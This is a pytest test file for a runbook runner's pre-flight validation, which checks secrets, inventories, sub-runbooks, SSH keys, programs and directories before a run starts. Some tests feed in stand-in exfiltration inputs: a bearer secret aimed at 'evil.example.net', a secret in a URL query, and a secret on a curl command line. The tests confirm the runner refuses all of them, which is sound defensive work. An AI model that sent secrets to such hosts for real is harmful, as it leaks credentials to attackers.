"""Pre-flight: a run resolves everything it can before its first step and fails with every problem, changing nothing."""

from __future__ import annotations

import os
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from runner.engine.effects import covers, overlaps
from tests.conftest import Project


def steps_of(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["id"]: s for s in doc["steps"]}


def events_of(project: Project, run_id: str) -> list[dict[str, Any]]:
    res = project.run("events", run_id, "--json")
    assert res.code == 0, res
    return list(res.json()["events"])


# ---------------------------------------------------------------------- must-show 2


def test_missing_inventory_secret_and_sub_runbook_change_nothing_and_are_all_named(project: Project) -> None:
    marker = project.root / "marker"
    inventory = project.root / "inventory.yaml"
    project.write(
        "deploy.yaml",
        f"""
        name: deploy
        params:
          hosts: {{type: string, default: "group:web"}}
        secrets:
          token: env:RB_PF_TOKEN
        lock: deploy
        steps:
          - id: marker
            shell: [sh, -c, 'echo ran >> "$0"', "{marker}"]
          - id: restart
            targets: "{{{{ params.hosts }}}}"
            shell: [echo, "restart {{{{ target.name }}}}"]
          - id: notify
            runbook: {{name: notify-team, params: {{text: done}}}}
          - id: call-api
            shell: {{command: [echo, called], env: {{TOKEN: "{{{{ secrets.token }}}}"}}}}
    """,
    )
    env = {"RUNBOOK_INVENTORY": str(inventory)}
    res = project.run("run", "deploy", "--json", env=env)
    assert res.code == 1, res
    doc = res.json()
    assert not marker.exists(), "the marker step, first in the runbook, never ran"
    assert doc["state"] == "failed" and all(s["state"] == "pending" and s["attempts"] == 0 for s in doc["steps"]), doc
    reason = doc["reason"]
    assert reason.startswith("pre-flight found 3 problems; nothing was changed:"), reason
    assert f"cannot read inventory {inventory}: No such file or directory" in reason
    assert "cannot resolve the run's secrets: secret reference 'env:RB_PF_TOKEN': environment variable RB_PF_TOKEN is not set" in reason
    assert "step 'notify': sub-runbook 'notify-team': no runbook named 'notify-team'" in reason

    events = events_of(project, doc["run_id"])
    assert [e["type"] for e in events] == ["run.created", "run.started", "run.preflight_failed", "run.failed"]
    problems = events[2]["data"]["problems"]
    assert [(p["step"], p["message"].split(":")[0]) for p in problems] == [
        (None, "cannot resolve the run's secrets"), (None, f"cannot read inventory {inventory}"), ("notify", "sub-runbook 'notify-team'")]  # fmt: skip
    assert doc["next"]["action"] == "fix_and_retry"

    human = project.run("run", "deploy", env=env)
    assert human.code == 1 and "pre-flight found 3 problems" in human.out + human.err, "the lock was released"

    # fixed: the retried run goes through, each step once
    inventory.write_text("hosts: {web1: {}, web2: {}}\ngroups: {web: [web1, web2]}\n")
    project.write(
        "notify-team.yaml", "name: notify-team\nparams: {text: string}\nsteps:\n  - {id: say, shell: [echo, '{{ params.text }}']}\n"
    )
    fixed = {**env, "RB_PF_TOKEN": "tok-123456"}
    assert project.run("retry", doc["run_id"], env=fixed).code == 0
    done = project.run("resume", doc["run_id"], "--json", env=fixed)
    assert done.code == 0, done
    assert marker.read_text() == "ran\n"
    assert steps_of(done.json())["restart"]["reason"] == "targets: 2 succeeded (web1, web2)"


def test_sub_runbooks_are_checked_with_their_params_at_every_depth(project: Project) -> None:
    project.write("top.yaml", "name: top\nsteps:\n  - {id: mid, runbook: {name: mid, params: {port: '{{ 80 + 1 }}', n: oops}}}\n")
    project.write("mid.yaml", "name: mid\nparams: {port: integer, n: integer}\nsteps:\n  - {id: leaf, runbook: {name: leaf}}\n")
    project.write(
        "leaf.yaml", "name: leaf\nsecrets: {key: 'file:/no/such/key'}\nsteps:\n  - {id: use, shell: [echo, '{{ secrets.key }}']}\n"
    )
    res = project.run("run", "top", "--json")
    assert res.code == 1, res
    assert "step 'mid': sub-runbook 'mid': invalid params for runbook 'mid': n: Input should be a valid integer" in res.json()["reason"]
    project.write("top.yaml", "name: top\nsteps:\n  - {id: mid, runbook: {name: mid, params: {port: '{{ 80 + 1 }}', n: 1}}}\n")
    res = project.run("run", "top", "--json")
    assert res.code == 1, res
    assert ("step 'mid': in sub-runbook 'mid': step 'leaf': in sub-runbook 'leaf': cannot resolve the run's secrets: secret "
            "reference 'file:/no/such/key': cannot open the file (No such file or directory)") in res.json()["reason"]  # fmt: skip


# ---------------------------------------------------------------------- step types' own checks


def test_ssh_key_files_and_known_hosts_entries_are_checked_per_target_without_connecting(project: Project) -> None:
    known = project.root / "known_hosts"
    key = project.root / "id_ed25519"
    known.write_text("[127.0.0.1]:2201 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBtjS7LdQqGKNzqxkdcF+TNzKs8Z8uBmfDaScI7Ae2Vb\n")
    inventory = project.root / "inv.yaml"
    inventory.write_text(
        f"hosts:\n  a: {{address: 127.0.0.1, port: 2201, key: {key}}}\n  b: {{address: 127.0.0.1, port: 2202, key: {key}}}\n"
        "groups: {web: [a, b]}\n"
    )
    project.write(
        "s.yaml",
        f"name: s\nsteps:\n  - {{id: fan, targets: group:web, ssh: {{known_hosts: {known}, command: ['true']}}}}\n"
        f"  - {{id: solo, ssh: {{host: 127.0.0.1, known_hosts: {project.root}/nope, command: ['true']}}}}\n",
    )
    res = project.run("run", "s", "--json", env={"RUNBOOK_INVENTORY": str(inventory)})
    assert res.code == 1, res
    lines = res.json()["reason"].splitlines()[1:]
    assert lines == [
        f"  - step 'fan' (a): ssh a (127.0.0.1:2201): private key {key} does not exist",
        f"  - step 'fan' (b): ssh b (127.0.0.1:2202): private key {key} does not exist",
        f"  - step 'fan' (b): ssh b (127.0.0.1:2202): no key for '[127.0.0.1]:2202' in known_hosts file {known}: the connection "
        "would be refused before anything runs; add the host's key (compare its fingerprint with one you trust, e.g. from "
        "`ssh-keyscan -p 2202 127.0.0.1`)",
        f"  - step 'solo': ssh 127.0.0.1:22: known_hosts file {project.root}/nope does not exist; host keys are always checked, "
        "so every connection would be refused",
    ], lines


def test_http_refusals_are_found_before_anything_is_sent(project: Project) -> None:
    project.write(
        "h.yaml",
        """
        name: h
        params: {base: string}
        secrets: {tok: env:RB_PF_TOK}
        steps:
          - {id: leak, http: {url: "https://api.example.com/x", query: {t: "{{ secrets.tok }}"}}}
          - {id: pinned, http: {url: "https://other.example.com/", allowed_hosts: [api.example.com]}}
          - {id: chosen, http: {url: "{{ params.base }}/y", auth: {bearer: "{{ secrets.tok }}"}}}
          - {id: ca, http: {url: "https://api.example.com/", ca_bundle: /no/such/ca.pem}}
    """,
    )
    res = project.run("run", "h", "-p", "base=https://evil.example.net", "--json", env={"RB_PF_TOK": "sekrit-123"})
    assert res.code == 1, res
    reason = res.json()["reason"]
    assert "sekrit-123" not in res.out
    assert "step 'leak': GET https://api.example.com/x?t=***: the URL contains a secret value; refusing to send it" in reason
    assert "step 'pinned': GET https://other.example.com/: host 'other.example.com' is not allowed by the step's allowed_hosts" in reason
    assert "step 'chosen': GET https://evil.example.net/y: the request carries a secret and its host 'evil.example.net' comes " \
           "from a template" in reason  # fmt: skip
    assert "step 'ca': ca_bundle /no/such/ca.pem does not exist" in reason


def test_a_program_or_directory_an_earlier_step_writes_is_not_reported(project: Project) -> None:
    tool = project.root / "bin" / "tool"
    project.write(
        "t.yaml",
        f"""
        name: t
        steps:
          - id: install
            writes: ["{tool}"]
            shell: [sh, -c, 'mkdir -p "$1" "$(dirname "$0")" && printf "#!/bin/sh\\necho tool ran\\n" > "$0" && chmod +x "$0"', "{tool}",
                    "{project.root}/work"]
          - id: use
            shell: ["{tool}"]
          - id: work
            shell: {{command: [pwd], cwd: "{project.root}/work"}}
    """,
    )
    res = project.run("run", "t", "--json")
    assert res.code == 1, res
    assert res.json()["reason"].splitlines()[1:] == [f"  - step 'work': working directory '{project.root}/work' does not exist"]
    assert not tool.exists(), "nothing ran"
    text = (project.runbooks / "t.yaml").read_text()
    project.write("t.yaml", text.replace(f'writes: ["{tool}"]', f'writes: ["{tool}", "{project.root}/work"]'))
    res = project.run("run", "t", "--json")
    assert res.code == 0, res
    assert steps_of(res.json())["use"]["output"]["stdout"] == "tool ran\n"
    assert steps_of(res.json())["work"]["output"]["stdout"] == f"{project.root}/work\n"


def test_a_secret_on_a_command_line_is_refused_before_anything_runs(project: Project) -> None:
    marker = project.root / "marker"
    project.write(
        "argv.yaml",
        f"""
        name: argv
        secrets: {{tok: env:RB_PF_ARGV}}
        steps:
          - {{id: m, shell: [touch, "{marker}"]}}
          - {{id: leak, shell: [curl, -H, "Authorization: Bearer {{{{ secrets.tok }}}}", https://api.example.com/]}}
    """,
    )
    res = project.run("run", "argv", "--json", env={"RB_PF_ARGV": "argv-secret-1"})
    assert res.code == 1 and "argv-secret-1" not in res.out, res
    assert "step 'leak': step 'leak': the command line carries a secret; refusing to run it" not in res.json()["reason"]
    assert "step 'leak': the command line carries a secret; refusing to run it" in res.json()["reason"], res.json()["reason"]
    assert not marker.exists()


def test_missing_programs_are_named_with_the_path_searched(project: Project) -> None:
    project.write("p.yaml", "name: p\nsteps:\n  - {id: a, shell: [no-such-program-xyz, --flag]}\n  - {id: b, shell: [./rel/tool]}\n")
    res = project.run("run", "p", "--json", env={"PATH": "/usr/bin:/bin"})
    assert res.code == 1, res
    assert res.json()["reason"].splitlines()[1:] == [
        "  - step 'a': program 'no-such-program-xyz' is not found on PATH (/usr/bin:/bin)",
        "  - step 'b': program ./rel/tool does not exist",
    ]


# ---------------------------------------------------------------------- what is not checked, and when


def test_what_depends_on_an_earlier_output_or_a_false_when_is_left_for_later(project: Project) -> None:
    project.write(
        "later.yaml",
        """
        name: later
        params: {fast: {type: boolean, default: true}}
        steps:
          - {id: pick, shell: [echo, '["x", "y"]']}
          - {id: each, for_each: "{{ steps.pick.output.stdout | from_json }}", shell: [echo, "{{ item }}"]}
          - {id: slow, when: "{{ not params.fast }}", shell: [no-such-program-xyz]}
          - {id: port, shell: [echo, "{{ steps.pick.output.stdout | from_json | first }}"]}
    """,
    )
    res = project.run("run", "later", "--json")
    assert res.code == 0, res
    assert steps_of(res.json())["each"]["reason"] == "items: 2 succeeded (x, y)"
    assert steps_of(res.json())["slow"]["state"] == "skipped"


def test_a_resume_runs_pre_flight_again_over_the_steps_left(project: Project) -> None:
    log = project.root / "log"
    project.write(
        "two.yaml",
        f"""
        name: two
        secrets: {{tok: env:RB_PF_TOK2}}
        steps:
          - {{id: first, shell: [sh, -c, 'echo first >> "$0"', "{log}"]}}
          - {{id: second, shell: {{command: [sh, -c, 'echo second >> "$0"', "{log}"], env: {{T: "{{{{ secrets.tok }}}}"}}}}}}
    """,
    )
    first = project.run("run", "two", "--max-steps", "1", "--json", env={"RB_PF_TOK2": "value-1"})
    assert first.code == 3, first
    res = project.run("resume", first.json()["run_id"], "--json")
    assert res.code == 1, res
    assert "cannot resolve the run's secrets: secret reference 'env:RB_PF_TOK2'" in res.json()["reason"]
    assert log.read_text() == "first\n", "the done step is not run again, the next one never started"
    assert steps_of(res.json())["first"]["state"] == "succeeded" and steps_of(res.json())["second"]["state"] == "pending"


def test_a_run_with_nothing_to_check_writes_nothing_more(project: Project) -> None:
    project.write("plain.yaml", "name: plain\nsteps:\n  - {id: a, shell: ['true']}\n  - {id: b, shell: ['true']}\n")
    res = project.run("run", "plain", "--json")
    assert res.code == 0, res
    types = [e["type"] for e in events_of(project, res.json()["run_id"])]
    assert "run.preflight_failed" not in types and types[:3] == ["run.created", "run.started", "step.started"]
    count = sqlite3.connect(project.journal).execute("select count(*) from events").fetchone()[0]
    assert count == len(types)


# ---------------------------------------------------------------------- reads and writes


@pytest.mark.parametrize(
    ("a", "b", "expected"),
    [("/etc/app", "/etc/app/conf", True), ("/etc/app/", "/etc/app", True), ("/etc/app", "/etc/apple", False),
     ("service:nginx", "service:nginx", True), ("service:nginx", "service:nginx2", False), ("/", "/x", True)],
)  # fmt: skip
def test_overlaps(a: str, b: str, expected: bool) -> None:
    assert overlaps(a, b) is expected and overlaps(b, a) is expected


def test_covers_paths_and_programs_by_name() -> None:
    assert covers(["/usr/local/bin/tool"], "tool") and covers(["/opt/x"], "/opt/x/bin/y")
    assert not covers(["/usr/local/bin/tool"], "other") and not covers([], "tool")


def test_the_event_lists_problems_as_data(project: Project) -> None:
    project.write(
        "e.yaml",
        "name: e\nsecrets: {a: env:RB_PF_A}\nsteps:\n  - {id: s, shell: [echo, '{{ secrets.a }}']}\n  - {id: t, shell: [no-such-xyz]}\n",
    )
    res = project.run("run", "e", "--json")
    failed = [e for e in events_of(project, res.json()["run_id"]) if e["type"] == "run.preflight_failed"]
    assert failed[0]["data"]["problems"] == [
        {"step": None, "target": None, "message": "cannot resolve the run's secrets: secret reference 'env:RB_PF_A': environment "
         "variable RB_PF_A is not set"},
        {"step": "t", "target": None, "message": f"program 'no-such-xyz' is not found on PATH ({project.env['PATH']})"},
    ]  # fmt: skip
    assert failed[0]["data"]["detail"].startswith("2 problems: cannot resolve the run's secrets: ")


def test_a_program_found_before_is_looked_up_again_once_it_is_gone(tmp_path: Path) -> None:
    """The shell step remembers where a program was found (a server pre-flights it for every run) but never
    believes a program that was removed since, and finds it where it moved."""
    from runbook_shell.step import _which

    first, second = tmp_path / "a", tmp_path / "b"
    first.mkdir()
    second.mkdir()
    search = f"{first}{os.pathsep}{second}"
    tool = first / "rb-tool"
    tool.write_text("#!/bin/sh\n")
    tool.chmod(0o755)
    assert _which("rb-tool", search) == str(tool)
    tool.unlink()
    assert _which("rb-tool", search) is None
    moved = second / "rb-tool"
    moved.write_text("#!/bin/sh\n")
    moved.chmod(0o755)
    assert _which("rb-tool", search) == str(moved)
    moved.chmod(0o644)
    assert _which("rb-tool", search) is None
